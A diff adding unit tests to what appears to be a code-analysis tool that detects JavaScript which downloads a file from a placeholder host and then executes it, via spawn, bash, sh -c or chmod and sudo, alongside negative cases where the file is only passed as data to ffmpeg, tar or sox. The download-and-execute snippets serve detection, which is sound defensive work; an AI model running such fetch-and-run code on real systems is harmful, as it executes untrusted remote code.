@@ -71,6 +71,29 @@ execSync('bash /tmp/i.sh');`);
   });
 });
 
+describe('JavaScript: a downloaded file run, or handed to a program as data', () => {
+  const download = `const fs = require('fs'); const cp = require('child_process');
+const res = await fetch('https://cdn.example.test/get'); const tmp = \`/tmp/job-\${process.pid}.bin\`;
+fs.writeFileSync(tmp, Buffer.from(await res.arrayBuffer()));`;
+  const runsDownload = async (code: string) =>
+    ofKind(await js(`${download}\n${code}`), 'execute').some((b) => b.code.taints.includes('download'));
+  it.each([
+    ['as the program', 'cp.spawnSync(tmp, ["--quiet"]);'],
+    ['as the script of an interpreter', 'cp.spawn("bash", ["-e", tmp]);'],
+    ['after a prefix, in a shell line', 'cp.execSync(`chmod +x ${tmp} && sudo ${tmp}`);'],
+    ['as code after -c', 'cp.spawn("sh", ["-c", tmp]);'],
+  ])('runs it %s', async (_name, code) => {
+    expect(await runsDownload(code)).toBe(true);
+  });
+  it.each([
+    ['an input file of a converter', 'cp.spawn("ffmpeg", ["-y", "-i", tmp, "-c:a", "libopus", "out.ogg"]);'],
+    ['an archive to unpack', 'cp.execSync(`tar -xzf ${tmp} -C /tmp/unpacked`);'],
+    ['an option value', 'cp.spawnSync("sox", [`--input=${tmp}`, "out.wav"]);'],
+  ])('does not run it as %s', async (_name, code) => {
+    expect(await runsDownload(code)).toBe(false);
+  });
+});
+
 describe('JavaScript: obfuscated execution (execute with decoded code)', () => {
   it.each([
     [
